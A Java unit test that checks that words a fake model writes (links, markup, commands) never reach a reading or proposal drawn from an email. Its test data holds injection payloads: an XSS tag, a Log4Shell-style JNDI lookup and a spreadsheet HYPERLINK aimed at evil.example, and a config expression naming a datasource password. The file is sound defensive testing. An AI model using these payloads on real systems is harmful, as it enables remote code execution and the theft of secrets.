package io.quittance.harm;

import static org.assertj.core.api.Assertions.assertThat;

import io.quittance.advice.AdviceReader;
import io.quittance.advice.Reading;
import io.quittance.advice.ReadingJson;
import io.quittance.advice.model.Asking;
import io.quittance.advice.reading.SourceVerifier;
import io.quittance.document.InProcessReader;
import io.quittance.document.ReadMessage;
import io.quittance.matching.ExactMatcher;
import io.quittance.message.ReadingLimits;
import io.quittance.pipeline.AdviceReaders;
import java.nio.charset.StandardCharsets;
import java.util.regex.Matcher;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What a person is shown of a reading or a proposal are words of the source and of this program. A
 * model that writes links, markup or orders writes them for nobody.
 */
class AnswersAreNeverShownTest {
  private static final byte[] SECRET = "sixteen bytes at least".getBytes(StandardCharsets.UTF_8);
  private static final String MARK = "zq7";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=alert(1)>zq7",
        "[click](https://evil.example/zq7)",
        "{config:['quarkus.datasource.password']}zq7",
        "${jndi:ldap://evil.example/zq7}",
        "=HYPERLINK(\"https://evil.example/zq7\")",
        "zq7"
      })
  void no_word_of_an_answer_is_in_a_reading_or_a_proposal(String word) {
    for (long seed = 0; seed < 12; seed++) {
      World world = new World(seed);
      ReadMessage mail =
          new InProcessReader(ReadingLimits.DEFAULT).read(world.letter.bytes(), "mail.eml");
      for (int kind = 0; kind < 4; kind++) {
        int way = kind;
        FakeModel model =
            new FakeModel((prompt, shown) -> answer(new TrueAnswer(world, shown), way, word));
        AdviceReader reader =
            AdviceReaders.withModel(
                model, AdviceReaders.USUAL_PROMPT, SECRET, Asking.ALWAYS, exchange -> {});
        Reading reading = reader.read(mail);
        assertThat(ReadingJson.write(reading)).doesNotContain(MARK);
        assertThat(
                new ExactMatcher(new SourceVerifier())
                    .propose(mail, reading, world.books)
                    .toString())
            .doesNotContain(MARK);
      }
    }
  }

  private static String answer(TrueAnswer honest, int way, String word) {
    String escaped = word.replace("\"", "\\\"");
    return switch (way) {
      case 0 -> word;
      // The words of every place, of every heading, of every line: never found in the source.
      case 1 -> honest.inSpots().toString().replaceAll("\"text\":\"", quoted(escaped, "text"));
      case 2 ->
          honest.asTable().toString().replaceAll("\"heading\":\"", quoted(escaped, "heading"));
      default -> honest.inSpots().toString().replaceAll("\"line\":\"", quoted(escaped, "line"));
    };
  }

  private static String quoted(String word, String key) {
    return Matcher.quoteReplacement("\"" + key + "\":\"" + word);
  }
}
